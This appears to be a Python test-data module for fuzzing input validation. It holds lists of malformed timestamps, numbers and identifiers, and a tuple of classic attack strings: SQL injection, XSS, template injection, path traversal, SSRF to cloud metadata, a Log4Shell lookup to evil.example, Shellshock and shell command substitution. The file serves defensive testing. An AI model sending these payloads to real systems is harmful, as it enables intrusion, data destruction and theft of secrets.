"""Values that have no business where they are put, by what would belong there."""

from __future__ import annotations

import random
import string
from typing import Any

TEXTS_OF_ATTACK = (
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "1' AND pg_sleep(3) --",
    '" UNION SELECT secret FROM api_keys --',
    "\\'; SELECT 1; --",
    "$$; SELECT 1; $$",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{% debug %}",
    "%s%n%x%d",
    "{0.__class__.__mro__}",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null\x00.csv",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://[",
    "https://user:pass@example.com:99999/",
    "javascript:alert(1)",
    "gopher://127.0.0.1:25/x",
    "//evil.example",
    "a\r\nSet-Cookie: x=1",
    "a\nX-Injected: 1",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\ufeff",
    "\u202egnp.exe",
    "\u200b",
    "a\u2028b",
    "a\x85b\x0bc\x1cd",
    "\u0000\u0001\u0002",
    "\x7f\x80\x9f",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "\t-1",
    "A\u0301\u0301\u0301" * 20,
    "ﬀ\u0130ı\u017f",
    "admin\u00ad",
    "${jndi:ldap://evil.example/a}",
    "() { :;}; echo",
    "`id`",
    "$(id)",
    "| id",
    "*",
    "*)(uid=*))(|(uid=*",
    "__proto__",
    "constructor",
    "null",
    "None",
    "undefined",
    "true",
    "NaN",
    "Infinity",
    "1e309",
    "0x1F",
    "1_000",
    "\uff11\uff12",
    "٣",
    "%00",
    "%2e%2e%2f",
    "%",
    "%zz",
    "😀" * 30,
    " leading",
    "trailing ",
    " ",
    "\u00a0",
    "\u3000",
    "",
)
TIMES = (
    "2023-12-19T22:30:00Z",
    "2023-12-19t22:30:00z",
    "2023-12-19T22:30:00+14:00",
    "2023-12-19T22:30:00.123456789Z",
    "2023-12-19 22:30:00Z",
    "2023-12-19T22:30:00",
    "2023-12-19",
    "2023-12-19T22:30Z",
    "2023-12-19T24:00:00Z",
    "2023-12-19T22:60:00Z",
    "2023-12-19T23:59:60Z",
    "2023-02-29T00:00:00Z",
    "2023-13-01T00:00:00Z",
    "2023-00-10T00:00:00Z",
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00+23:59",
    "1969-12-31T23:59:59Z",
    "1970-01-01T00:00:00Z",
    "2199-12-31T23:59:59Z",
    "2199-12-31T23:59:59-23:59",
    "2200-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-23:59",
    "10000-01-01T00:00:00Z",
    "-2023-12-19T22:30:00Z",
    "+2023-12-19T22:30:00Z",
    "2023-12-19T22:30:00+24:00",
    "2023-12-19T22:30:00+0100",
    "2023-12-19T22:30:00 +01:00",
    "2023-12-19T22:30:00Z\n",
    "2023-W51-2T22:30:00Z",
    "1703025000",
    "now",
    "\uff12023-12-19T22:30:00Z",
    "2023-11-14T12:00:00Z",
    "2024-01-19T00:00:00Z",
)
DAYS = (
    "2023-12-19",
    "2023-12-32",
    "2023-02-29",
    "2024-02-29",
    "2023-2-3",
    "20231219",
    "2023-12-19T00:00:00Z",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "1969-12-31",
    "2199-12-31",
    "0000-00-00",
    "2023-353",
    "\uff12023-12-19",
    " 2023-12-19",
    "2023-12-19\n",
)
DECIMALS = (
    "0", "-0", "0.000000", "0.000001", "0.0000001", "0.0000010", "1", "1.5", "-1", "-0.000001", "+1", "1.", ".5", "1e3",
    "1E-3", "0x10", "1_0", "1,5", " 1", "1 ", "1\n", "--1", "NaN", "sNaN", "Infinity", "-Infinity", "1000000000000",
    "1000000000000.000001", "1000000000001", "999999999999.999999", "9" * 13, "9" * 14, "9" * 30, "9" * 31, "9" * 5000,
    "0." + "0" * 29 + "1", "0." + "1" * 31, "00001", "\uff11", "\u0661", "1\u00a0000", "½", "²",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "-0.0", "0.0", "1", "-1", "1.0", "1.5", "0.1", "0.000001", "0.0000001", "1e0", "1e3", "1E+2", "1e-7",
    "1e308", "1e309", "1e999999999", "-1e999999999", "1000000000000", "1000000000001", "2147483647", "2147483648",
    "-2147483649", "9007199254740993", "9223372036854775807", "9223372036854775808", "18446744073709551615",
    "18446744073709551616", "9" * 40, "9" * 41, "9" * 5000, "0." + "9" * 38, "0." + "9" * 5000, "1.10",
    "0.30000000000000004", "1.7976931348623157e308",
)  # fmt: skip
IDENTIFIERS = (
    "{upper}", "{{{id}}}", "urn:uuid:{id}", "{hex}", " {id}", "{id} ", "{id}\n", "{id}\x00", "{id}x", "{short}",
    "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{id}/..", "{id}%00", "{id},{id}",
    "1", "-1", "0", "null", "undefined", "*", "{id}' OR '1'='1", "{wide}", "%7B{id}%7D",
)  # fmt: skip
OF_ANOTHER_TYPE: tuple[Any, ...] = (
    None, True, False, 0, 1, -1, 1.5, "", "text", "0", "true", [], {}, [None], [[]], [{}], {"a": 1}, ["a"], {"": None},
)  # fmt: skip
_LETTERS = string.ascii_letters + string.digits + "éß漢🙂 _-./:"


def identifier(chance: random.Random, name: str) -> str:
    """Something like the id that ``name`` stands for. What is made of its letters is made when it is known, if at all:
    a mark has no letters of its own, so those forms are of a fixed id."""
    known = "0190a1b2-0000-7000-8000-000000000000"
    form = chance.choice(IDENTIFIERS)
    return form.format(
        id=name,
        upper=name if chance.random() < 0.5 else known.upper(),
        hex=known.replace("-", ""),
        short=known[:-1],
        wide=known.replace("0", "\uff10"),
    )


def text(chance: random.Random, length: int) -> str:
    """Harmless text of a length."""
    return "".join(chance.choice(_LETTERS) for _ in range(min(length, 24))).ljust(length, "x")[:length]


def hostile(chance: random.Random) -> str:
    """An attack, alone or amid something else."""
    chosen = chance.choice(TEXTS_OF_ATTACK)
    form = chance.randrange(6)
    if form == 0:
        return chosen + text(chance, chance.randrange(1, 9))
    if form == 1:
        return text(chance, chance.randrange(1, 9)) + chosen
    if form == 2:
        return chosen + chance.choice(TEXTS_OF_ATTACK)
    return chosen


def of_another_type(chance: random.Random) -> Any:
    if chance.random() < 0.2:
        return text(chance, chance.randrange(1, 12))
    if chance.random() < 0.1:
        return chance.randrange(-(2**70), 2**70)
    return chance.choice(OF_ANOTHER_TYPE)
